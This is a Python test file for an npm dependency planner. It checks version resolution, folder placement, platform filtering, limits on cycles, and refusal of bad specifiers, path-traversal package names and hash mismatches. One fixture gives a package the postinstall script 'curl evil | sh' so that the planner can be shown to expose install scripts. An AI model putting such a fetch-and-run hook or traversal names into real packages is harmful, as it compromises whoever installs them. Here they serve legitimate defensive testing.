"""Plans of npm packages: versions and folders as Node.js looks for them, found without npm."""

from __future__ import annotations

import asyncio
import json
from base64 import b64encode
from typing import TYPE_CHECKING

import pytest

from runner.model.plan import Plan, Registry
from runner.packages.failures import NoPlan
from runner.packages.installing import PackageSet
from runner.packages.limits import PlanLimits
from runner.packages.npm_registry import CHECKED_EVERY, read
from runner.packages.planner import PackageQuestion, Planner
from runner.packages.target import NodeTarget
from tests.patience import HANGS

if TYPE_CHECKING:
    from tests.packages.registry import LoopbackRegistry

pytestmark = pytest.mark.asyncio
Make = "Callable[..., Planner]"
NOTHING = PackageSet(Registry.NPM)
HERE = NodeTarget("linux", "x64", "glibc", "22.0.0")


async def planned(planner: Planner, *asked: str, before: PackageSet = NOTHING) -> Plan:
    return await planner.plan("claude", PackageQuestion(Registry.NPM, asked, HERE, before))


def places(plan: Plan) -> dict[str, str]:
    return {package.place: package.version for package in plan.packages}


async def test_the_highest_that_fits_stands_as_near_to_the_top_as_it_can(
    registry: LoopbackRegistry, planner: Make
) -> None:
    registry.add_npm("app", "1.0.0", dependencies={"lib": "^1.0.0", "tool": "^2.0.0"})
    registry.add_npm("tool", "2.1.0", dependencies={"lib": "^2.0.0", "deep": "*"})
    registry.add_npm("deep", "1.0.0", dependencies={"lib": "^1.0.0"})
    for version in ("1.0.0", "1.5.0", "2.0.0", "2.0.0-rc.1"):
        registry.add_npm("lib", version)
    plan = await planned(planner(registry), "app")
    assert places(plan) == {
        "app": "1.0.0",
        "lib": "1.5.0",
        "tool": "2.1.0",
        "deep": "1.0.0",
        "tool/node_modules/lib": "2.0.0",
    }
    assert next(one for one in plan.packages if one.name == "tool").wanted_by == ("app",)


async def test_nobody_loses_the_package_that_it_has_found(registry: LoopbackRegistry, planner: Make) -> None:
    """`mid` and `low` share a folder: another `x` for `low` may not stand where `mid` would get it."""
    registry.add_npm("x", "1.0.0")
    registry.add_npm("x", "2.0.0")
    registry.add_npm("low", "1.0.0")
    registry.add_npm("low", "2.0.0", dependencies={"x": "^2.0.0"})
    registry.add_npm("mid", "1.0.0", dependencies={"x": "^1.0.0", "low": "^2.0.0"})
    plan = await planned(planner(registry), "x@1", "low@1", "mid")
    assert places(plan)["mid/node_modules/low/node_modules/x"] == "2.0.0"
    assert "mid/node_modules/x" not in places(plan)


async def test_what_is_optional_or_for_another_system_is_left_out(registry: LoopbackRegistry, planner: Make) -> None:
    optional = {"native-linux": "1.0.0", "native-mac": "1.0.0", "gone": "1.0.0"}
    registry.add_npm("app", "1.0.0", optionalDependencies=optional, peerDependencies={"peer": "^1.0.0"})
    registry.add_npm("native-linux", "1.0.0", os=["linux"], cpu=["x64"])
    registry.add_npm("native-mac", "1.0.0", os=["darwin"])
    registry.add_npm("peer", "1.2.0")
    assert set(places(await planned(planner(registry), "app"))) == {"app", "native-linux", "peer"}
    with pytest.raises(NoPlan, match="is not for"):
        await planned(planner(registry), "native-mac")


async def test_install_scripts_are_shown(registry: LoopbackRegistry, planner: Make) -> None:
    registry.add_npm("app", "1.0.0", scripts={"postinstall": "curl evil | sh", "test": "x"})
    # The registry may keep quiet about them: the file itself counts.
    del registry.packuments["app"]["versions"]["1.0.0"]["scripts"]
    plan = await planned(planner(registry), "app")
    assert plan.packages[0].scripts == ("postinstall",) and "installed: postinstall: curl evil | sh" in plan.text


@pytest.mark.parametrize("wanted", ["git+ssh://x/y", "https://x/y.tgz", "file:../x", "npm:other@1", "next"])
async def test_a_package_that_asks_for_anything_but_a_version_is_refused(
    registry: LoopbackRegistry, planner: Make, wanted: str
) -> None:
    registry.add_npm("app", "1.0.0", dependencies={"lib": wanted})
    registry.add_npm("lib", "1.0.0")
    with pytest.raises(NoPlan, match="no range"):
        await planned(planner(registry), "app")


@pytest.mark.parametrize("name", ["../evil", "a/../../b", "/etc", "__proto__/x", "a b", ""])
async def test_a_package_that_asks_for_a_path_is_refused(registry: LoopbackRegistry, planner: Make, name: str) -> None:
    registry.add_npm("app", "1.0.0", dependencies={name: "1.0.0"})
    with pytest.raises(NoPlan, match="no name of a package"):
        await planned(planner(registry), "app")


async def test_another_file_than_the_announced_one_is_refused(registry: LoopbackRegistry, planner: Make) -> None:
    registry.add_npm("app", "1.0.0")
    registry.files["app-1.0.0.tgz"] = registry.add_npm("other", "1.0.0")
    with pytest.raises(NoPlan, match="hash"):
        await planned(planner(registry), "app")


async def test_circles_and_crowds_end(registry: LoopbackRegistry, planner: Make) -> None:
    registry.add_npm("a", "1.0.0", dependencies={"b": "1.0.0"})
    registry.add_npm("b", "1.0.0", dependencies={"a": "1.0.0"})
    assert set(places(await planned(planner(registry), "a"))) == {"a", "b"}
    registry.add_npm("wide", "1.0.0", dependencies={f"w{number}": "*" for number in range(900)})
    with pytest.raises(NoPlan, match="more than 200 packages"):
        await planned(planner(registry, PlanLimits()), "wide")
    async with asyncio.timeout(HANGS):
        for number in range(30):
            # Each needs the other one in another version than what it finds.
            registry.add_npm("p", f"{number}.0.0", dependencies={"q": f"{number}.0.0"})
            registry.add_npm("q", f"{number}.0.0", dependencies={"p": f"{(number + 1) % 30}.0.0"})
        with pytest.raises(NoPlan, match=r"too many folders|more than"):
            await planned(planner(registry), "p@0")


async def test_a_second_plan_regards_what_is_installed(registry: LoopbackRegistry, planner: Make) -> None:
    registry.add_npm("lib", "1.0.0")
    registry.add_npm("app", "1.0.0", dependencies={"lib": "^1.0.0"})
    registry.add_npm("other", "1.0.0", dependencies={"lib": "^2.0.0"})
    maker = planner(registry)
    first = await maker.prepare("claude", await planned(maker, "lib"), NOTHING)
    registry.add_npm("lib", "2.0.0")
    assert places(await planned(maker, "app", before=first.after)) == {"app": "1.0.0"}
    assert places(await planned(maker, "other", before=first.after)) == {
        "other": "1.0.0",
        "other/node_modules/lib": "2.0.0",
    }


async def test_choosing_among_very_many_versions_ends_with_the_time() -> None:
    """A registry may list so many, and a package ask by so long a range, that comparing alone takes seconds."""
    listed = {"name": "lib", "dist": {"integrity": f"sha512-{b64encode(bytes(64)).decode()}", "tarball": "lib.tgz"}}
    page = {"versions": {f"1.0.{number}": listed for number in range(2 * CHECKED_EVERY)}}
    packument = read(json.dumps(page).encode(), "lib", "http://registry.example/lib")
    looks: list[int] = []

    def check() -> None:
        looks.append(1)
        if len(looks) == 2:
            raise NoPlan("The registry did not answer in time.", "")

    with pytest.raises(NoPlan, match="in time"):
        packument.best("2.0.0", check)
    assert len(looks) == 2
